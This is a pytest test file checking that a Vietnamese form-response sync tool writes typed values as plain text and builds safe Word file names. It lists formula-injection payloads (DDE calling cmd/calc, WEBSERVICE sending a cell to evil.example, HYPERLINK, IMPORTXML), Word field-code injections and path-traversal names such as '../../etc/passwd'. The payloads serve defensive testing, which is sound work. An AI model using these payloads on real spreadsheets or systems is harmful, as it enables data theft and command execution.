"""Formula and CSV injection: what a respondent types never becomes a formula or a field code.

Each payload is typed into every field a unit fills in (unit, fanpage name, link, staff name,
position, phone, note); those values flow into the status cells (`Tên Fanpage đề nghị` holds
the unit, `Chi tiết kiểm tra` quotes typed values, `File danh sách` is a slug) and into the
Word lists. SECURITY.md quotes INJECTIONS.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import docx
import openpyxl
import pytest
from click.testing import CliRunner

from sheets_sync.cli import main
from sheets_sync.config import STATUS_COLUMNS
from sheets_sync.model import CellWrite
from sheets_sync.sheets.csvfile import CsvBackend
from sheets_sync.sheets.google import GoogleBackend
from sheets_sync.sheets.xlsx import XlsxBackend
from sheets_sync.text import clean
from tests.conftest import ServiceAccountKey
from tests.helpers import HEADER, row
from tests.sheets_emulator import SheetsEmulator
from tests.sheets_emulator_cells import Formula

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/x","Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=IMPORTXML("http://evil.example/x","//a")',
    "=cmd|' /C calc'!A0",  # DDE
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    "＝1+1",  # full-width equals sign, which some spreadsheet programs accept
    '<w:fldSimple w:instr="HYPERLINK http://evil"/>',
    '{ INCLUDETEXT "C:\\\\secret.txt" }',
]
FIELDS: dict[str, Callable[[str], list[Any]]] = {
    "unit": lambda p: row(p),
    "fanpage_name": lambda p: row("Trường THCS Ngọc Lâm", name=p),
    "fanpage_url": lambda p: row("Trường Mầm non Hoa Sữa", url=p),
    "staff_name": lambda p: row("UBND phường Bồ Đề", staff=p),
    "staff_position": lambda p: row("Trường Tiểu học Gia Thụy", position=p),
    "staff_phone": lambda p: row("Trường THPT Lý Thường Kiệt", phone=p),
    "note": lambda p: row("Công ty TNHH Sông Hồng", note=p),
}
# Payloads tried: each one in each field, through each backend.
INJECTIONS = len(PAYLOADS) * len(FIELDS)

RESPONSES = "Câu trả lời biểu mẫu 1"
KEY = "1SW5qZWN0aW9uVGVzdFNwcmVhZHNoZWV0X0xvbmdCaWVu"
STATUS = list(STATUS_COLUMNS.values())
STATUS_COLS = range(len(HEADER) + 1, len(HEADER) + len(STATUS) + 1)  # 1-based
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def grid(payload: str) -> list[list[Any]]:
    return [HEADER, *(make(payload) for make in FIELDS.values())]


def invoke(*args: str) -> Any:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result


def assert_quoted(status_cells: list[list[Any]], payload: str) -> None:
    """The typed value does reach the status cells, as plain text."""
    texts = [str(v) for line in status_cells for v in line]
    assert any(clean(payload) in text for text in texts)


# -- Google Sheets -------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_google_statuses_are_raw_text(
    sheets_emulator: SheetsEmulator,
    service_account_key: ServiceAccountKey,
    tmp_path: Path,
    payload: str,
) -> None:
    sheets_emulator.add_spreadsheet(KEY, {RESPONSES: grid(payload)})
    sheets_emulator.share(KEY, service_account_key.client_email)
    before = [line[: len(HEADER)] for line in sheets_emulator.sheet(KEY, RESPONSES).rows]
    key = str(service_account_key.path)
    invoke("run", KEY, "--out", str(tmp_path / "out"), "--credentials", key)

    updates = [r for r in sheets_emulator.requests if r.path.endswith("values:batchUpdate")]
    assert updates and all(r.body["valueInputOption"] == "RAW" for r in updates)
    stored = sheets_emulator.sheet(KEY, RESPONSES).rows
    assert not any(isinstance(cell, Formula) for line in stored for cell in line)
    status_cells = [line[len(HEADER) :] for line in stored]
    assert all(isinstance(v, str) for line in status_cells for v in line if v is not None)
    assert status_cells[0] == STATUS
    assert_quoted(status_cells[1:], payload)
    assert [line[: len(HEADER)] for line in stored] == before


@pytest.mark.parametrize("payload", PAYLOADS)
def test_google_backend_writes_a_formula_like_status_as_text(
    sheets_emulator: SheetsEmulator, service_account_key: ServiceAccountKey, payload: str
) -> None:
    sheets_emulator.add_spreadsheet(KEY, {RESPONSES: grid("x")})
    sheets_emulator.share(KEY, service_account_key.client_email)
    backend = GoogleBackend(KEY, service_account_key.path, readonly=False)
    data = backend.read(None, "Danh sách đơn vị")
    backend.write([CellWrite(RESPONSES, 2, len(HEADER) + 1, payload)], data)
    assert sheets_emulator.sheet(KEY, RESPONSES).rows[1][len(HEADER)] == payload


# -- .xlsx ------------------------------------------------------------------------------------


def make_xlsx(path: Path, rows: list[list[Any]]) -> Path:
    """Save responses as Google's download does: typed text stays text, even `=1+1`."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = RESPONSES
    for r, line in enumerate(rows, 1):
        for c, value in enumerate(line, 1):
            cell = sheet.cell(row=r, column=c, value=value)
            if isinstance(value, str):
                cell.data_type = "s"
    book.save(path)
    return path


_FORMULA = re.compile(rb"<(?:\w+:)?f[ >/]")


def sheet_xml_cells(path: Path) -> dict[str, ElementTree.Element]:
    """Return the `<c>` elements of the first worksheet by reference (`M2`)."""
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert not _FORMULA.search(xml), "a formula element in the sheet"
    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    root = ElementTree.fromstring(xml)
    return {c.attrib["r"]: c for c in root.iter(f"{ns}c")}


def assert_plain_xlsx_statuses(path: Path) -> list[list[Any]]:
    book = openpyxl.load_workbook(path)
    sheet = book[RESPONSES]
    values = []
    for r in range(1, sheet.max_row + 1):
        line = []
        for c in STATUS_COLS:
            cell = sheet.cell(row=r, column=c)
            if cell.value is not None:
                assert cell.data_type == "s", (cell.coordinate, cell.value)
            line.append(cell.value)
        values.append(line)
    for ref, element in sheet_xml_cells(path).items():
        assert not list(element.iter("{*}f")), ref
    return values


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_statuses_are_strings_and_documents_hold_no_field_codes(
    tmp_path: Path, payload: str
) -> None:
    path = make_xlsx(tmp_path / "tra-loi.xlsx", grid(payload))
    before = [list(r) for r in openpyxl.load_workbook(path)[RESPONSES].iter_rows(values_only=True)]
    out = tmp_path / "out"
    invoke("run", str(path), "--out", str(out))

    status_cells = assert_plain_xlsx_statuses(path)
    assert status_cells[0] == STATUS
    assert_quoted(status_cells[1:], payload)
    after = openpyxl.load_workbook(path)[RESPONSES]
    assert [list(r)[: len(HEADER)] for r in after.iter_rows(values_only=True)] == [
        r[: len(HEADER)] for r in before
    ]
    assert_documents_are_literal(out, payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_backend_writes_a_formula_like_status_as_text(tmp_path: Path, payload: str) -> None:
    path = make_xlsx(tmp_path / "tra-loi.xlsx", grid("x"))
    backend = XlsxBackend(path)
    with backend.lock():
        data = backend.read(None, "Danh sách đơn vị")
        backend.write([CellWrite(RESPONSES, 2, len(HEADER) + 1, payload)], data)
    assert assert_plain_xlsx_statuses(path)[1][0] == payload


# -- .csv -------------------------------------------------------------------------------------


def make_csv(path: Path, rows: list[list[Any]]) -> Path:
    buffer = io.StringIO()
    text_rows = [["" if v is None else str(v) for v in line] for line in rows]
    csv.writer(buffer, lineterminator="\r\n").writerows(text_rows)
    path.write_bytes(buffer.getvalue().encode("utf-8"))
    return path


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_statuses_never_start_a_formula(tmp_path: Path, payload: str) -> None:
    path = make_csv(tmp_path / "tra-loi.csv", grid(payload))
    before = csv_rows(path)
    invoke("run", str(path), "--out", str(tmp_path / "out"))

    after = csv_rows(path)
    status_cells = [line[len(HEADER) :] for line in after]
    assert status_cells[0] == STATUS
    assert not [v for line in status_cells for v in line if v.startswith(DANGEROUS_STARTS)]
    assert_quoted(status_cells[1:], payload)
    assert [line[: len(HEADER)] for line in after] == [line[: len(HEADER)] for line in before]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_backend_escapes_a_formula_like_status(tmp_path: Path, payload: str) -> None:
    path = make_csv(tmp_path / "tra-loi.csv", grid("x"))
    backend = CsvBackend(path)
    with backend.lock():
        data = backend.read(None, "Danh sách đơn vị")
        backend.write([CellWrite(data.responses.title, 2, len(HEADER) + 1, payload)], data)
    written = csv_rows(path)[1][len(HEADER)]
    assert not written.startswith(DANGEROUS_STARTS)
    assert written.lstrip("'") == payload
    # Read back, the value is the one written: the escape is the file's business only.
    assert CsvBackend(path).read(None, "x").responses.rows[1][len(HEADER)] == payload


# -- Word lists ---------------------------------------------------------------------------------

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def field_codes(path: Path) -> list[str]:
    """Return every field instruction in a .docx: simple fields and complex ones."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if not name.endswith(".xml"):
                continue
            root = ElementTree.fromstring(archive.read(name))
            found += [f"fldSimple:{e.attrib.get(W + 'instr')}" for e in root.iter(W + "fldSimple")]
            found += [(e.text or "").strip() for e in root.iter(W + "instrText")]
            assert not list(root.iter(W + "hyperlink")), name
    return found


def docx_text(path: Path) -> str:
    document = docx.Document(str(path))
    parts = [p.text for p in document.paragraphs]
    parts += [c.text for t in document.tables for r in t.rows for c in r.cells]
    return "\n".join(parts)


def assert_documents_are_literal(out: Path, payload: str) -> None:
    files = sorted(out.glob("*.docx"))
    assert len(files) >= 5  # unit, fanpage name, staff name, position, note rows + summary
    for path in files:
        assert set(field_codes(path)) <= {"PAGE"}, path.name
        with zipfile.ZipFile(path) as archive:
            rels = b"".join(archive.read(n) for n in archive.namelist() if n.endswith(".rels"))
        assert b"evil" not in rels
    summary = docx_text(out / "tong-hop.docx")
    expected = clean(payload)
    # Unit, fanpage name, staff name, position and note rows are listed with the text as typed.
    assert summary.count(expected) >= 4, (expected, summary)


# -- file names -----------------------------------------------------------------------------------

HOSTILE_UNITS = [
    "../../etc/passwd",
    "..\\..\\x",
    "/abs/path",
    "C:\\Windows",
    "\\\\server\\share\\x",
    "CON",
    "nul.txt",
    "aux",
    "COM1",
    "lpt9.docx",
    "con .docx",
    ".hidden",
    "x" * 500,
    "Trường " + "Ngọc Lâm " * 60,
    "tổng hợp",  # slugs to the consolidated list's name
    "Tong-Hop.docx",
    "Đơn vị",  # slugs to the fallback name
    "!!!",
    "🙂🙂🙂",
    "👍🏽",
    "\u200b\u200e",  # invisible only: no unit at all once cleaned
    "Ngọc Lâm!",
    "Ngọc Lâm?",
    "ngọc-lâm",
    "NGỌC   LÂM.",
    "a/b",
    "a\\b",
    "a:b",
    'a*b?c"d<e>f|g',
    "x\x00y",
]
MAX_NAME = 100


def test_hostile_unit_names_give_safe_unique_files(tmp_path: Path) -> None:
    from sheets_sync.config import Settings
    from sheets_sync.documents import DocumentMaker, write_documents
    from sheets_sync.model import SheetData, Table
    from sheets_sync.pipeline import check_data
    from sheets_sync.text import WINDOWS_RESERVED_NAMES

    rows = [row(u, url=f"https://www.facebook.com/p{i}") for i, u in enumerate(HOSTILE_UNITS)]
    checked = check_data(SheetData("x", Table(RESPONSES, [HEADER, *rows])), Settings())
    listed = checked.listed
    # Only the invisible name (no unit: an error) and resubmissions of one unit get no list.
    assert [r.status for r in checked.results].count("error") == 1
    assert len(listed) + [r.status for r in checked.results].count("superseded") == 29
    out = tmp_path / "nested" / "out"
    outcome = write_documents(listed, out, DocumentMaker(Settings().documents))

    everything = sorted(p for p in tmp_path.rglob("*"))
    files = [p for p in everything if p.is_file()]
    assert [p for p in everything if p.is_dir()] == [tmp_path / "nested", out]
    assert all(p.parent == out for p in files)
    names = [p.name for p in files]
    assert len(names) == len(listed) + 1 == len(set(names)) == len(outcome.paths)
    assert sorted(names) == sorted({r.file_name for r in listed} | {"tong-hop.docx"})
    for name in names:
        assert len(name) <= MAX_NAME, name
        assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*\.docx", name), name
        assert name.split(".")[0] not in WINDOWS_RESERVED_NAMES, name
